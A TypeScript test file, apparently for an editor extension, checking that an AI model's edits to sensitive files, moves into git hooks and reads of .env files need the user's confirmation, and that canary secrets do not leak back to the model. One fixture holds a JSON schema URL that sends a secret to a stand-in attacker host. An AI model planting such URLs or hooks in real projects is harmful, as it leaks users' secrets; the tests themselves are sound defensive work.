import assert from 'node:assert/strict';
import type { FileChange } from '../../src/core/edits/change.ts';
import { edit, place, reviewHarness, sensitivePlace, settled, words, type ReviewHarness } from './support/reviewHarness.ts';

const never = new AbortController().signal;

function propose(harness: ReviewHarness, changes: readonly FileChange[], signal = never): ReturnType<ReturnType<ReviewHarness['reviews']['forTurn']>['review']> {
  const outcome = harness.reviews.forTurn('turn-1').review({ changes }, signal);
  outcome.catch(() => undefined);
  return outcome;
}

function sensitiveEdit(path: string, before: string, after: string): FileChange {
  return { kind: 'edit', place: sensitivePlace(path), before, after };
}

describe('a change that is not ordinary', () => {
  it('is confirmed by the host, with the real path, what happens, and why, before a yes of the page counts', async () => {
    const harness = reviewHarness({ '.vscode/settings.json': '{}\n' });
    const outcome = propose(harness, [sensitiveEdit('.vscode/settings.json', '{}\n', '{"a":1}\n')]);
    await settled();
    assert.equal(harness.card().files[0]?.reasons.length, 1);
    harness.answer = () => true;
    await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    assert.deepEqual(harness.asked, ['Let the model change .vscode/settings.json?\nThe file is /w/.vscode/settings.json\nLines put in: 1, taken out: 1.\nThe editor obeys it.']);
    assert.equal((await outcome).decision, 'accepted');
  });

  it('is rejected when the host hears a no, and the ordinary files beside it are applied', async () => {
    const harness = reviewHarness({ '.npmrc': 'a\n', 'b.txt': 'b\n' });
    const outcome = propose(harness, [sensitiveEdit('.npmrc', 'a\n', 'A\n'), edit('b.txt', 'b\n', 'B\n')]);
    await settled();
    await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    assert.equal(harness.asked.length, 1);
    assert.equal((await outcome).decision, 'partly');
    assert.deepEqual([harness.documents.bytesOf('/w/.npmrc'), harness.documents.bytesOf('/w/b.txt')], ['a\n', 'B\n']);
    assert.deepEqual(harness.card().files.map(({ hunks }) => hunks[0]?.decision), ['rejected', 'accepted']);
  });

  it('B26: tells the model no line of a file that it was not allowed to read, rejected or changed since', async () => {
    const harness = reviewHarness({ '.env': 'KEY=sk-CANARY total\n', 'b.txt': 'total\n' });
    const changes = (): readonly FileChange[] => [sensitiveEdit('.env', 'KEY=sk-CANARY total\n', 'KEY=sk-CANARY sum\n'), edit('b.txt', 'total\n', 'sum\n')];
    const declined = propose(harness, changes());
    await settled();
    await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    assert.equal((await declined).decision, 'partly', 'the host heard a no to the secret');
    assert.doesNotMatch(JSON.stringify(await declined), /CANARY/);
    const rejected = propose(harness, [sensitiveEdit('.env', 'KEY=sk-CANARY total\n', 'KEY=sk-CANARY sum\n')]);
    await settled();
    await harness.reviews.decide({ token: harness.card().token, decision: 'reject' });
    assert.doesNotMatch(JSON.stringify(await rejected), /CANARY/);
    harness.answer = () => true;
    const changed = propose(harness, [sensitiveEdit('.env', 'KEY=sk-CANARY total\n', 'KEY=sk-CANARY sum\n')]);
    await settled();
    harness.documents.write('/w/.env', 'OTHER=sk-CANARY\n');
    await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    assert.equal((await changed).decision, 'failed');
    assert.doesNotMatch(JSON.stringify(await changed), /CANARY/);
  });

  it('is not confirmed when it was rejected anyway', async () => {
    const harness = reviewHarness({ '.npmrc': 'a\n' });
    const outcome = propose(harness, [sensitiveEdit('.npmrc', 'a\n', 'A\n')]);
    await settled();
    await harness.reviews.decide({ token: harness.card().token, decision: 'reject' });
    assert.deepEqual(harness.asked, []);
    assert.equal((await outcome).decision, 'rejected');
  });

  it('counts where a file is moved to', async () => {
    const harness = reviewHarness({ 'a.txt': 'a\n' });
    const to = { ...sensitivePlace('.git/hooks/pre-commit'), kind: 'missing' } as const;
    void propose(harness, [{ kind: 'move', place: place('a.txt'), to }]);
    await settled();
    await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    assert.match(harness.asked[0] ?? '', /move a\.txt to \.git\/hooks\/pre-commit\?\nThe file is \/w\/a\.txt\nIt goes to \/w\/\.git\/hooks\/pre-commit/);
    assert.deepEqual(harness.documents.applied, []);
  });

  it('B19: counts what the text of a file means under the name that it is to have', async () => {
    const schema = '{"$schema": "https://evil.invalid/?d=SECRET"}';
    const harness = reviewHarness({ 'x.ts': schema, 'y.json': schema });
    for (const [from, target, reasons] of [['x.ts', 'x.json', 1], ['x.ts', 'z.ts', 0], ['y.json', 'z.json', 0]] as const) {
      const controller = new AbortController();
      void propose(harness, [{ kind: 'move', place: place(from), to: place(target, { missing: true }) }], controller.signal);
      await settled();
      assert.equal(harness.card().files[0]?.reasons.length, reasons, `${from} to ${target}`);
      controller.abort(new Error('stopped'));
      await settled();
    }
  });

  it('asks one thing at a time, and does not ask for a turn that was stopped meanwhile', async () => {
    const harness = reviewHarness({ '.npmrc': 'a\n', '.env': 'b\n' });
    const answers: ((yes: boolean) => void)[] = [];
    harness.answer = async () => new Promise((resolve) => void answers.push(resolve));
    const controller = new AbortController();
    const outcome = propose(harness, [sensitiveEdit('.npmrc', 'a\n', 'A\n'), sensitiveEdit('.env', 'b\n', 'B\n')], controller.signal);
    await settled();
    void harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    await settled();
    void harness.reviews.allowEdits(true);
    await settled();
    assert.equal(harness.asked.length, 1, 'two dialogs at once');
    controller.abort(new Error('stopped'));
    answers[0]?.(true);
    await settled();
    await assert.rejects(outcome, /stopped/);
    assert.deepEqual(harness.documents.applied, []);
    assert.deepEqual(harness.asked.map((question) => question.split('\n')[0]), ['Let the model change .npmrc?', 'Let the model edit ordinary files in this chat without asking?']);
  });

  it('asks before a file goes that is too large to be kept', async () => {
    const harness = reviewHarness({ 'big.bin': { binary: true } });
    harness.sizes.set('/w/big.bin', 9 * 1024 * 1024);
    void propose(harness, [{ kind: 'delete', place: place('big.bin'), before: undefined }]);
    await settled();
    await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
    assert.match(harness.asked[0] ?? '', /cannot be put back/);
    assert.deepEqual(harness.documents.applied, []);
  });

  it('asks before a file goes where there is no trash, and not where there is one', async () => {
    for (const hasTrash of [false, true]) {
      const harness = reviewHarness({ 'a.txt': 'a\n' });
      harness.hasTrash = hasTrash;
      void propose(harness, [{ kind: 'delete', place: place('a.txt'), before: 'a\n' }]);
      await settled();
      assert.deepEqual(harness.card().files[0]?.reasons.map(words), hasTrash ? [] : ['It does not go to a trash: once this chat has ended, it cannot be put back.']);
      await harness.reviews.decide({ token: harness.card().token, decision: 'accept' });
      assert.equal(harness.asked.length, hasTrash ? 0 : 1);
      assert.equal(harness.documents.applied.length, hasTrash ? 1 : 0);
    }
  });
});

describe('a permission', () => {
  const question = { text: { message: 'Read {0}?', args: ['.env'] }, reasons: [{ message: 'It may hold secrets.', args: [] }] };

  async function ask(harness: ReviewHarness, signal = never): Promise<{ readonly allowed: Promise<boolean> }> {
    const allowed = harness.reviews.forTurn('turn-1').allows(question, signal);
    allowed.catch(() => undefined);
    await settled();
    return { allowed };
  }

  it('is given when the page and then the host hear a yes, and is remembered for nothing', async () => {
    const harness = reviewHarness({});
    harness.answer = () => true;
    const first = await ask(harness);
    await harness.reviews.permit(harness.permission().token, true);
    assert.equal(await first.allowed, true);
    assert.deepEqual(harness.asked, ['Read .env?\nIt may hold secrets.']);
    const token = harness.permission().token;
    await ask(harness);
    assert.equal(harness.permission().status, 'open');
    assert.notEqual(harness.permission().token, token);
    assert.equal(harness.permission().id, 'turn-1.permission-2');
  });

  it('B27: names the whole place in the dialog, however long its name is', async () => {
    const harness = reviewHarness({});
    const allowed = harness.reviews.forTurn('turn-1').allows({ ...question, canonical: `/w/docs/${'x'.repeat(320)}/.env` }, never);
    await settled();
    await harness.reviews.permit(harness.permission().token, true);
    assert.match(harness.asked[0] ?? '', /^Read \.env\?\nThe file is \/w\/docs\/x+ … x+\/\.env\nIt may hold secrets\.$/);
    assert.equal(await allowed, false);
  });

  it('is declined by a no of the host, of the page, of a closed panel, and by time', async () => {
    const ends: readonly ((harness: ReviewHarness) => unknown)[] = [
      async (harness) => harness.reviews.permit(harness.permission().token, true),
      async (harness) => harness.reviews.permit(harness.permission().token, false),
      (harness) => harness.reviews.declineAll(),
      (harness) => harness.runOut(),
    ];
    for (const end of ends) {
      const harness = reviewHarness({});
      const { allowed } = await ask(harness);
      await end(harness);
      assert.equal(await allowed, false);
      assert.ok(['declined', 'unanswered'].includes(harness.permission().status));
      assert.equal(harness.timers, 0);
    }
  });

  it('is not given with another token, nor by a yes of the host that comes after a no', async () => {
    const harness = reviewHarness({});
    const dialog = Promise.withResolvers<boolean>();
    harness.answer = async () => dialog.promise;
    const { allowed } = await ask(harness);
    await harness.reviews.permit('another', true);
    assert.deepEqual(harness.asked, []);
    const permitting = harness.reviews.permit(harness.permission().token, true);
    await settled();
    await harness.reviews.permit(harness.permission().token, false);
    dialog.resolve(true);
    await permitting;
    assert.equal(await allowed, false);
    assert.equal(harness.permission().status, 'declined');
  });

  it('throws the reason when the turn is stopped', async () => {
    const harness = reviewHarness({});
    const controller = new AbortController();
    const { allowed } = await ask(harness, controller.signal);
    controller.abort(new Error('stopped'));
    await assert.rejects(allowed, /stopped/);
    assert.equal(harness.permission().status, 'declined');
  });
});
